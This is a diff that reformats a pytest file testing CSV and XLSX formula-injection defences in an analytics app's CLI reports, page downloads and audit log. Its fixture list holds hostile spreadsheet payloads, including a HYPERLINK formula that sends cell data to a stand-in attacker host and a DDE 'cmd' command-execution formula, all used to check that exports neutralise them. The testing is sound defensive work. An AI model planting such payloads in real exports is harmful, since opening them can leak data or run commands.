@@ -4,6 +4,7 @@ downloads and from the audit log; XLSX cells stay text. Numbers stay numbers.
 The hostile names come from the issue: ``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``+1+1``,
 ``@SUM(1+1)``, plus a tab and a carriage return in front.
 """
+
 from __future__ import annotations
 
 import csv
@@ -21,8 +22,16 @@ from analytics import export
 from tests import factories as F
 
 ROOT = Path(__file__).resolve().parents[1]
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)",
-            "-2+3", "\t=1+1", "\r=1+1", "  =1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(1+1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -41,21 +50,25 @@ def assert_no_formula(rows: list[list[str]]) -> None:
 
 # ----------------------------------------------------------------------------- the rule
 
-@pytest.mark.parametrize("raw,written", [
-    ("=1+1", "'=1+1"),
-    ("+1+1", "'+1+1"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(1+1)", "'@SUM(1+1)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("  =1+1", "'  =1+1"),
-    ("-12.5", "-12.5"),              # a negative number stays a number
-    ("+86", "+86"),
-    ("-1e-05", "-1e-05"),
-    ("张三", "张三"),
-    ("a=b", "a=b"),
-    ("", ""),
-])
+
+@pytest.mark.parametrize(
+    "raw,written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("  =1+1", "'  =1+1"),
+        ("-12.5", "-12.5"),  # a negative number stays a number
+        ("+86", "+86"),
+        ("-1e-05", "-1e-05"),
+        ("张三", "张三"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
 def test_csv_safe(raw, written):
     assert export.csv_safe(raw) == written
 
@@ -80,7 +93,7 @@ def test_xlsx_cells_stay_text():
     ws = wb["s"]
     got = [(c.value, c.data_type) for c in ws["A"][1:]]
     assert [t for _, t in got] == ["s"] * len(FORMULAS)
-    assert [v for v, _ in got][:6] == FORMULAS[:6]          # (a leading CR comes back as _x000D_)
+    assert [v for v, _ in got][:6] == FORMULAS[:6]  # (a leading CR comes back as _x000D_)
     assert all(c.value == -1.5 and c.data_type == "n" for c in ws["B"][1:])
 
 
@@ -103,6 +116,7 @@ def test_the_terminal_table_shows_control_characters():
 
 # ----------------------------------------------------------------------------- the command line
 
+
 @pytest.fixture()
 def hostile(tiny, tmp_path):
     """The tiny world with households named like formulas in grid G111 (never visited: all due)."""
@@ -110,8 +124,11 @@ def hostile(tiny, tmp_path):
 
     con, path = tiny
     rows = [(f"X{i}", name, "", "", "", F.G111) for i, name in enumerate(FORMULAS)]
-    res = load(con, "households", F.write_csv(tmp_path / "x.csv", ["户编号", "户主", "联系电话", "经度", "纬度",
-                                                                  "网格编码"], rows))
+    res = load(
+        con,
+        "households",
+        F.write_csv(tmp_path / "x.csv", ["户编号", "户主", "联系电话", "经度", "纬度", "网格编码"], rows),
+    )
     assert res.ok
     con.execute("UPDATE households SET created_on = DATE '2025-01-01'")
     stored = dict(con.execute("SELECT code, head_name FROM households WHERE code LIKE 'X%'").fetchall())
@@ -122,9 +139,26 @@ def test_cli_report_csv_has_no_formula(hostile):
     """Before: `report unvisited --format csv` wrote =HYPERLINK(…) as a live formula."""
     con, path, stored = hostile
     con.close()
-    r = subprocess.run([sys.executable, "manage.py", "--db", str(path), "report", "unvisited", "--area", F.G111,
-                        "--as-of", "2026-11-24", "--format", "csv"], cwd=ROOT, capture_output=True, timeout=300,
-                       env={"PATH": "/usr/bin:/bin", "LIANXIN_FAST_HASH": "1"})
+    r = subprocess.run(
+        [
+            sys.executable,
+            "manage.py",
+            "--db",
+            str(path),
+            "report",
+            "unvisited",
+            "--area",
+            F.G111,
+            "--as-of",
+            "2026-11-24",
+            "--format",
+            "csv",
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        timeout=300,
+        env={"PATH": "/usr/bin:/bin", "LIANXIN_FAST_HASH": "1"},
+    )
     assert r.returncode == 0, r.stderr.decode()
     rows = cells(r.stdout)
     names = {row[0]: row[1] for row in rows[1:]}
@@ -150,6 +184,7 @@ def test_cli_negative_numbers_stay_numbers(tiny_ro):
 
 # ----------------------------------------------------------------------------- the pages' downloads
 
+
 def test_coverage_page_csv_download_has_no_formula(hostile, monkeypatch, downloads):
     """Before: the due list's CSV download carried the names as live formulas."""
     _, path, stored = hostile
@@ -170,14 +205,14 @@ def test_audit_csv_has_no_formula_and_keeps_the_time_of_day(tiny, monkeypatch, d
     from auth import audit, users
 
     con, path = tiny
-    with pytest.raises(users.LoginRefused):       # what a stranger types is not even logged …
+    with pytest.raises(users.LoginRefused):  # what a stranger types is not even logged …
         users.login(con, FORMULAS[0], "whatever-password")
     audit.record(con, "admin", "export", detail=FORMULAS[1], now=dt.datetime(2026, 11, 22, 9, 5, 7))
     F.signed_in_app(monkeypatch, path, "admin", page="pages/admin.py")
     rows = cells(F.download_bytes(downloads, "audit-log", ".csv"))
     header = rows[0]
     detail = [row for row in rows[1:] if row[header.index("detail")].endswith(FORMULAS[1])]
-    assert detail and detail[0][header.index("detail")] == "'" + FORMULAS[1]   # … and what is logged is text
+    assert detail and detail[0][header.index("detail")] == "'" + FORMULAS[1]  # … and what is logged is text
     assert detail[0][header.index("logged_at")] == "2026-11-22 09:05:07"
     assert "HYPERLINK" not in "".join(",".join(r) for r in rows)
     assert_no_formula(rows)
